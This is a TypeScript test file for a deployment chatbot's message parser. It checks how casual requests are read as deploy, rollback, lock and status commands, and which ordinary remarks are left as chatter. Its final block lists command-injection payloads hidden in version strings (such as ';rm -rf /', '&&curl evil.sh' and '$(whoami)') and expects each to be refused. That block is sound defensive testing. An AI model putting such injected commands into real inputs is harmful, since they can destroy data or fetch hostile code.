// Messages the phrase rules do not read, understood from cue words and slots wherever they stand
// (src/domain/parse-understand.ts), through parseCommand as every message goes.
import { describe, expect, it } from 'vitest';
import { parseCommand } from '../../src/domain/parse.js';
import type { ParseResult } from '../../src/domain/types.js';
import { NOW, shippedConfig as cfg } from './helpers.js';

const read = (text: string): ParseResult => parseCommand(text, cfg, NOW);
const fields = (r: ParseResult) => (r.ok ? (r.command as Record<string, unknown>) : { refused: r.reason });

describe('understanding requests the phrase rules miss', () => {
  it.each([
    ['mind rolling out checkout v1.2.3 to staging?', { intent: 'deploy', service: 'checkout', version: 'v1.2.3', environment: 'staging' }],
    ['i want payments 2.0.1 in prod', { intent: 'deploy', service: 'payments', version: '2.0.1', environment: 'production' }],
    ['search 3.1.0 is ready, please ship it', { intent: 'deploy', service: 'search', version: '3.1.0' }],
    ['can web v2.0.0 go out now?', { intent: 'deploy', service: 'web', version: 'v2.0.0' }],
    ['payments status', { intent: 'status', service: 'payments' }],
    ['is checkout still rolling out?', { intent: 'status', service: 'checkout' }],
    ['are we done with search?', { intent: 'status', service: 'search' }],
    ['checkout is broken, roll it back', { intent: 'rollback', service: 'checkout', environment: 'production' }],
    ['take the lock off payments in staging', { intent: 'unlock', service: 'payments', environment: 'staging' }],
    ['put search on hold for the migration', { intent: 'lock', service: 'search', reason: 'the migration' }],
    ['what are you able to do?', { intent: 'help' }],
    ['payments?', { intent: 'status', service: 'payments' }],
    ['catalog looks bad, revert it', { intent: 'rollback', service: 'catalog' }],
    ['search needs 2.0.1 in prod', { intent: 'deploy', service: 'search', version: '2.0.1' }],
    ['requesting web 1.4.0 be deployed to staging', { intent: 'deploy', service: 'web', version: '1.4.0', environment: 'staging' }],
    ['abort the checkout canary', { intent: 'rollback', service: 'checkout' }],
    ['catalog 3.2.0 please', { intent: 'deploy', service: 'catalog', version: '3.2.0' }],
    ['I would like search 2.4.1 released', { intent: 'deploy', service: 'search', version: '2.4.1' }],
    ['cancel the pending payments deploy', { intent: 'cancel', service: 'payments' }],
    ['reopen checkout for deploys', { intent: 'unlock', service: 'checkout' }],
    ['tell me about web', { intent: 'status', service: 'web' }],
    ['search -> 2.0.1', { intent: 'deploy', service: 'search', version: '2.0.1' }],
    ['where does payments stand?', { intent: 'status', service: 'payments' }],
    ['we are good to go with web 2.0.0 in prod', { intent: 'deploy', service: 'web', version: '2.0.0' }],
    ['shipbot?', { intent: 'help' }],
    ['put web back to how it was', { intent: 'rollback', service: 'web' }],
    ['take search 2.0.1 from staging into prod', { intent: 'deploy', service: 'search', version: '2.0.1', environment: 'production' }],
    ['payments: no deploys until monday', { intent: 'lock', service: 'payments' }],
    ['are we there yet with web?', { intent: 'status', service: 'web' }],
    ['what are you for?', { intent: 'help' }],
    ['checkout is ready for prod: v1.2.3', { intent: 'deploy', service: 'checkout', version: 'v1.2.3' }],
    ['can I get catalog 3.2.0 on staging to test?', { intent: 'deploy', service: 'catalog', environment: 'staging' }],
    ['has the payments deploy started?', { intent: 'status', service: 'payments' }],
    ['can we do a canary of catalog 3.2.0?', { intent: 'deploy', service: 'catalog', version: '3.2.0' }],
    ['we need checkout on 2.0.1 asap', { intent: 'deploy', service: 'checkout', version: '2.0.1' }],
    ['never mind, cancel search', { intent: 'cancel', service: 'search' }],
    ['downgrade checkout to 1.2.2', { intent: 'deploy', service: 'checkout', version: '1.2.2' }],
    ['downgrade search', { intent: 'rollback', service: 'search' }],
    ['publish web 2.0.1 to staging', { intent: 'deploy', service: 'web', version: '2.0.1', environment: 'staging' }],
    ['sitrep on payments', { intent: 'status', service: 'payments' }],
    ['resume deploys to checkout', { intent: 'unlock', service: 'checkout' }],
    ['payments looks broken, can you roll it back?', { intent: 'rollback', service: 'payments' }],
    ['stop the web rollout and go back', { intent: 'rollback', service: 'web' }],
    ['let web deploy again', { intent: 'unlock', service: 'web' }],
    ['v3.2.0 for web please', { intent: 'deploy', service: 'web', version: 'v3.2.0' }],
    ['search to version 3.2.0', { intent: 'deploy', service: 'search', version: '3.2.0' }],
    ["let's do catalog 1.2.3 on staging", { intent: 'deploy', service: 'catalog', version: '1.2.3', environment: 'staging' }],
  ])('%s', (text, expected) => {
    expect(fields(read(text))).toMatchObject(expected);
  });

  it('a cue in its -ing form is not read as a strategy ("mind rolling out …")', () => {
    expect(fields(read('mind rolling out checkout v1.2.3 to staging?'))).not.toHaveProperty('strategy');
  });

  it('keeps what else the sentence says: guidance, steps and the schedule are read as on the usual path', () => {
    const r = fields(read('how about we ship search 2.0.1 tomorrow at 3pm with 5% → 50% → 100%?'));
    expect(r).toMatchObject({ intent: 'deploy', service: 'search', version: '2.0.1', canarySteps: [5, 50, 100] });
    expect(r.scheduledAt).toBe('2026-11-24T15:00:00.000Z');
    expect(fields(read('i want checkout v1.2.3 in prod with zero downtime'))).toMatchObject({ strategy: 'blue-green' });
  });

  it('a question that carries a whole request is an offer, and says so', () => {
    const r = read('would it be possible to release catalog 1.4.0 today?');
    expect(r.ok && r.command.intent === 'deploy' && r.command.notes.some((n) => n.startsWith('You asked'))).toBe(true);
  });

  it('"upgrade checkout from 1.0.0 to 1.2.3" and "promote … from staging" name where it goes', () => {
    expect(fields(read('upgrade checkout from 1.0.0 to 1.2.3'))).toMatchObject({ service: 'checkout', version: '1.2.3' });
    expect(fields(read('could we promote catalog 3.2.0 from staging?'))).toMatchObject({ environment: 'production' });
  });
});

describe('a slip in the command verb', () => {
  it('is put right, and the reply says what was read', () => {
    const r = read('deplyo checkout 1.2.3 to staging');
    expect(fields(r)).toMatchObject({ intent: 'deploy', service: 'checkout', version: '1.2.3', environment: 'staging' });
    expect(r.ok && r.command.intent === 'deploy' && r.command.notes).toContain("read 'deplyo' as 'deploy'");
    expect(fields(read('rollbak search'))).toMatchObject({ intent: 'rollback', service: 'search' });
  });

  it('a form of the verb is not a slip ("deploys are slow today")', () => {
    expect(read('deploys are slow today').ok).toBe(false);
    expect(read('released search yesterday').ok).toBe(false);
  });
});

describe('what must stay chatter', () => {
  it.each([
    'the payments rollback saved us',
    'search v3.2.0 went out last night',
    'release notes for web 2.0.1 are up',
    'checkout status page is down',
    'who can deploy catalog?',
    'why did payments roll back?',
    'we should not ship checkout 1.2.3 yet',
    'deploying checkout v1.2.3 now, fingers crossed',
    'freeze is on',
    'lock is held by alice',
    'update your slack app',
    'promote me to admin',
    'can someone help me with kubectl?',
    'checkout 1.2.3 needs more testing',
    'search status page link?',
    'web v3.2.0 release notes?',
    'rolling update complete for web',
    'checkout 1.2.3 is a big release',
    'stop the build',
    'help me understand this graph',
    'i rolled checkout back and it looks fine',
  ])('%s', (text) => {
    const r = read(text);
    expect(r.ok && ['deploy', 'rollback', 'cancel', 'lock', 'unlock', 'status'].includes(r.command.intent), JSON.stringify(r)).toBe(false);
  });

  it('a rollback asked as a question is not done ("should we roll back checkout?")', () => {
    expect(read('should we roll back checkout?').ok).toBe(false);
  });
});

describe('hostile input in a free sentence is refused, never trimmed to a version', () => {
  it.each([
    'mind shipping checkout v1.2.3`id`?',
    'i want checkout v1.2.3;rm -rf / in prod',
    'how about we ship checkout 1.2.3&&curl evil.sh?',
    'checkout v1.2.3|sh is ready, please deploy',
    'can checkout $(whoami) go out today?',
  ])('%s', (text) => {
    const r = read(text);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.reason).toMatch(/can never be part of|not a valid version/);
  });
});
